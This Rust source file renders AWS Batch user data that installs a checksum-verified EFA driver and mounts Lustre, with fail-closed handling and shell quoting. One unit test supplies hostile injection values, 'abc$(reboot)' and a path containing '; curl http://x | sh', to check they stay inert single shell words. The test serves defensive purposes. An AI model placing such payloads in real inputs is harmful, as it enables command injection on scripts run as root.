//! The launch templates' user data: a MIME multi-part document (Batch merges its own part into
//! it) whose shell script installs the EFA driver on EFA instances and mounts the Lustre file
//! system on instances whose phases read it. Pure text, unit-tested; the caller base64-encodes.
//!
//! A mount that fails must not leave an instance that runs jobs writing to its local disk: the
//! mount point is made immutable before mounting (nothing can be written into the bare
//! directory), and on any failure the ECS agent is masked, so the instance never joins the
//! cluster, and the instance shuts down (the launch template sets shutdown to terminate, and
//! Batch launches another).

/// The EFA installer the instances run, and its SHA-256 (as AWS's EFA verification page
/// publishes per version; the same pin AWS ParallelCluster's cookbook carries for 1.41.0).
pub const EFA_INSTALLER_VERSION: &str = "1.41.0";
/// SHA-256 of `aws-efa-installer-1.41.0.tar.gz`.
pub const EFA_INSTALLER_SHA256: &str =
    "3506354cdfbe31ff552fe75f5d0d9bb7efd29cf79bd99457347d29c751c38f9f";

/// A Lustre file system to mount.
pub struct LustreMount<'a> {
    pub dns: &'a str,
    pub mount_name: &'a str,
    pub path: &'a str,
}

/// `s` as one shell word (single-quoted where it needs to be).
fn quote(s: &str) -> String {
    // try_quote refuses only a NUL byte, which no spec value or AWS name can hold
    shlex::try_quote(s).map_or_else(|_| "''".to_string(), std::borrow::Cow::into_owned)
}

/// The user data for one launch template, or None when it needs none.
pub fn render(lustre: Option<&LustreMount>, efa: bool) -> Option<String> {
    if lustre.is_none() && !efa {
        return None;
    }
    let mut script = String::from(
        "#!/bin/bash\n\
set -euo pipefail\n\
fail() {\n\
  echo \"pipectl: instance set-up failed at line $1; keeping this instance out of the cluster\" | tee /dev/console >&2\n\
  systemctl mask --now ecs.service || true\n\
  shutdown -h now\n\
}\n\
trap 'fail $LINENO' ERR\n",
    );
    if efa {
        // The EFA kernel driver is not on Batch's ECS images: the minimal install (driver and
        // rdma-core; the containers bring libfabric) from AWS's installer, before the agent
        // starts (https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/efa-start.html). A pinned
        // version whose SHA-256 is checked before it runs as root: a changed or substituted
        // archive fails the set-up (and keeps the instance out of the cluster).
        script.push_str(&format!(
            "cd /tmp\n\
curl -fsSL --retry 5 -o aws-efa-installer.tar.gz https://efa-installer.amazonaws.com/aws-efa-installer-{EFA_INSTALLER_VERSION}.tar.gz\n\
echo '{EFA_INSTALLER_SHA256}  aws-efa-installer.tar.gz' | sha256sum -c -\n\
tar -xzf aws-efa-installer.tar.gz\n\
(cd aws-efa-installer && ./efa_installer.sh -y --minimal)\n\
test -e /dev/infiniband/uverbs0\n",
        ));
    }
    if let Some(m) = lustre {
        // Every value is quoted for the shell although validation lets only plain paths and
        // AWS's own names through: the script runs as root.
        let path = quote(m.path);
        let source = format!("{}@tcp:/{}", m.dns, m.mount_name);
        let fstab = quote(&format!(
            "{source} {} lustre defaults,relatime,flock,_netdev,x-systemd.automount,x-systemd.requires=network-online.target 0 0",
            m.path
        ));
        let source = quote(&source);
        let in_mounts = quote(&format!(" {} lustre ", m.path));
        script.push_str(&format!(
            "dnf install -y lustre-client || yum install -y lustre-client\n\
mkdir -p -- {path}\n\
# an immutable mount point: if the mount is ever missing, writes fail instead of filling the root volume\n\
chattr +i -- {path}\n\
mounted=0\n\
for i in $(seq 1 30); do mount -t lustre -o relatime,flock -- {source} {path} && {{ mounted=1; break; }}; sleep 10; done\n\
[ \"$mounted\" = 1 ]\n\
grep -qF -- {in_mounts} /proc/mounts\n\
printf '%s\\n' {fstab} >> /etc/fstab\n"
        ));
    }
    Some(format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"==PIPECTL==\"\r\n\r\n--==PIPECTL==\r\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\r\n\r\n{script}\r\n--==PIPECTL==--\r\n"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    const M: LustreMount = LustreMount {
        dns: "fs-1.fsx.us-east-1.amazonaws.com",
        mount_name: "abcdef",
        path: "/fsx",
    };

    #[test]
    fn nothing_to_do_means_no_user_data() {
        assert!(render(None, false).is_none());
    }

    #[test]
    fn mounts_lustre_on_an_immutable_mount_point_and_fails_closed() {
        let u = render(Some(&M), false).unwrap();
        assert!(u.starts_with("MIME-Version: 1.0"));
        assert!(u.contains(
            "mount -t lustre -o relatime,flock -- fs-1.fsx.us-east-1.amazonaws.com@tcp:/abcdef /fsx"
        ));
        let chattr = u.find("chattr +i -- /fsx").expect("immutable mount point");
        assert!(
            chattr < u.find("mount -t lustre").unwrap(),
            "made immutable before mounting"
        );
        assert!(
            u.contains("trap 'fail $LINENO' ERR") && u.contains("systemctl mask --now ecs.service")
        );
        assert!(
            u.contains("[ \"$mounted\" = 1 ]"),
            "a mount that never succeeded fails the script"
        );
        assert!(!u.contains("efa_installer"));
        assert!(u.trim_end().ends_with("--==PIPECTL==--"));
    }

    #[test]
    fn efa_instances_install_the_driver_and_check_the_device() {
        let u = render(None, true).unwrap();
        assert!(u.contains("./efa_installer.sh -y --minimal"));
        // the archive is a pinned version, checked before it runs as root
        assert!(!u.contains("latest"), "an unpinned installer");
        let check = u.find("sha256sum -c -").expect("the archive is checked");
        assert!(check < u.find("tar -xzf").unwrap() && u.contains(EFA_INSTALLER_SHA256));
        assert!(u.contains("test -e /dev/infiniband/uverbs0"));
        assert!(!u.contains("lustre"));
        let both = render(Some(&M), true).unwrap();
        assert!(both.find("efa_installer").unwrap() < both.find("mount -t lustre").unwrap());
    }

    #[test]
    fn every_value_reaching_the_script_is_one_shell_word() {
        // validation refuses such a path; the script must not depend on that alone
        let hostile = LustreMount {
            dns: "fs-1.fsx.us-east-1.amazonaws.com",
            mount_name: "abc$(reboot)",
            path: "/fsx; curl http://x | sh #\n'q'",
        };
        let u = render(Some(&hostile), false).unwrap();
        let script = &u[u.find("#!/bin/bash").unwrap()..u.rfind("--==PIPECTL==--").unwrap()];
        // the quoted path spans two lines (it holds a newline): parse the whole script as a
        // shell would and look for the hostile words standing alone
        let words = shlex::split(script).expect("balanced quoting");
        for w in ["curl", "sh", "#", "reboot", "q"] {
            assert!(!words.iter().any(|x| x == w), "{w:?} stands as a word");
        }
        assert!(
            words.iter().any(|x| x == hostile.path),
            "the path is one word"
        );
        assert!(
            words
                .iter()
                .any(|x| x == "fs-1.fsx.us-east-1.amazonaws.com@tcp:/abc$(reboot)")
        );
        assert!(
            !script.contains("network.service"),
            "AL2023 has no network.service"
        );
    }
}
